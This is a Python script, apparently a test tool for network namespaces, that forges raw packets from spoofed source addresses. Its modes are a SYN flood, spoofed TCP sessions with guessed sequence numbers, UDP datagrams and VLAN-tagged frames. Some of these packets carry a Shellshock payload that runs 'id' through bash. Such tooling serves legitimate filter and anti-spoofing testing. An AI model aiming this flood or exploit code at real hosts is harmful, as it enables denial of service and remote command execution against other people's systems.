#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Forged packets for namespace tests, sent through a raw IP socket (needs root in the sending namespace).

forge.py session --source PREFIX --count N --target HOST [--port 80]   SYN, then ACK and a Shellshock request with guessed
                                                                       sequence numbers, from addresses that are not ours
forge.py udp --source PREFIX --count N --target HOST [--port 53]       one datagram with the attack text per source
forge.py syn --source PREFIX --count N --target HOST [--port 80]       SYN flood
forge.py frame --device IF --count N FRAME…                            Ethernet frames in hexadecimal, as they are
With --device IF the packets of the others go out of that interface as broadcast Ethernet frames, with --tag N (more than one for
QinQ, the outer first) behind VLAN tags that stand in the frame.
"""
import argparse
import ipaddress
import itertools
import random
import socket
import struct

ATTACK = b"GET /cgi-bin/status HTTP/1.1\r\nHost: x\r\nUser-Agent: () { :; }; /bin/bash -c 'id'\r\n\r\n"


def checksum(data):
    if len(data) & 1:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(source, target, proto, segment, offset):
    pseudo = source + target + struct.pack("!BBH", 0, proto, len(segment))
    segment = segment[:offset] + struct.pack("!H", checksum(pseudo + segment)) + segment[offset + 2:]
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), random.getrandbits(16), 0x4000, 64, proto, 0, source, target)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + segment


def tcp(source, target, sport, dport, seq, ack, flags, data=b""):
    segment = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 0x50, flags, 64240, 0, 0) + data
    return packet(source, target, 6, segment, 16)


def udp(source, target, sport, dport, data):
    return packet(source, target, 17, struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data, 6)


def tagged(tags, payload):
    """An Ethernet frame to everybody; the outer one of several tags has the service type of IEEE 802.1ad."""
    types = [0x88A8] * (len(tags) - 1) + [0x8100]
    head = b"\xff" * 6 + bytes.fromhex("020000000001")
    return head + b"".join(struct.pack("!HH", *row) for row in zip(types, tags)) + b"\x08\x00" + payload


def syn_flood(raw, target, sources, count, port):
    """Every packet another (source, port): a template, patched, since Python is slow."""
    head = bytearray(packet(bytes(4), target, 6, bytes(20), 16))
    head[20:40] = struct.pack("!HHIIBBHHH", 0, port, 0, 0, 0x50, 2, 64240, 0, 0)
    fixed_ip = (~checksum(bytes(head[:10]) + b"\0\0" + bytes(head[12:20]))) & 0xFFFF
    fixed_tcp = (~checksum(target + struct.pack("!HH", 6, 20) + bytes(head[20:40]))) & 0xFFFF
    address = (socket.inet_ntoa(target), 0)

    def fold(total):
        total = (total & 0xFFFF) + (total >> 16)
        return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF

    for number, host in zip(range(count), sources):
        source = int(host)
        words = (source >> 16) + (source & 0xFFFF)
        sport = 1024 + number * 7919 % 64000
        seq = number * 2654435761 & 0xFFFFFFFF
        struct.pack_into("!HI", head, 10, fold(fixed_ip + words), source)
        struct.pack_into("!H", head, 20, sport)
        struct.pack_into("!I", head, 24, seq)
        struct.pack_into("!H", head, 36, fold(fixed_tcp + words + sport + (seq >> 16) + (seq & 0xFFFF)))
        raw.sendto(head, address)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("what", choices=["session", "udp", "syn", "frame"])
    parser.add_argument("frames", nargs="*")
    parser.add_argument("--source")
    parser.add_argument("--device")
    parser.add_argument("--tag", type=int, action="append", default=[])
    parser.add_argument("--count", type=int, default=10)
    parser.add_argument("--target")
    parser.add_argument("--port", type=int)
    args = parser.parse_args()
    random.seed(1)
    if args.device:
        link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        link.bind((args.device, 0))
    if args.what == "frame":
        for _ in range(args.count):
            for frame in args.frames:
                link.send(bytes.fromhex(frame))
        print(f"{args.count} times {len(args.frames)} frames sent")
        return
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    target = socket.inet_aton(args.target)
    hosts = itertools.cycle(list(ipaddress.ip_network(args.source).hosts()) or [ipaddress.ip_network(args.source)[0]])
    if args.what == "syn":
        syn_flood(raw, target, hosts, args.count, args.port or 80)
        print(f"{args.count} syn sent")
        return
    for _ in range(args.count):
        source = next(hosts).packed
        sport = random.randint(1024, 65535)
        port = args.port or (53 if args.what == "udp" else 80)
        if args.what == "udp":
            frames = [udp(source, target, sport, port, ATTACK)]
        else:
            seq, ack = random.getrandbits(32), random.getrandbits(32)
            nxt = (seq + 1) & 0xFFFFFFFF
            frames = [tcp(source, target, sport, port, seq, 0, 2), tcp(source, target, sport, port, nxt, ack, 16),
                      tcp(source, target, sport, port, nxt, ack, 24, ATTACK)]
        for frame in frames:
            if args.device:
                link.send(tagged(args.tag, frame))
            else:
                raw.sendto(frame, (args.target, 0))
    print(f"{args.count} {args.what} sent")


if __name__ == "__main__":
    main()
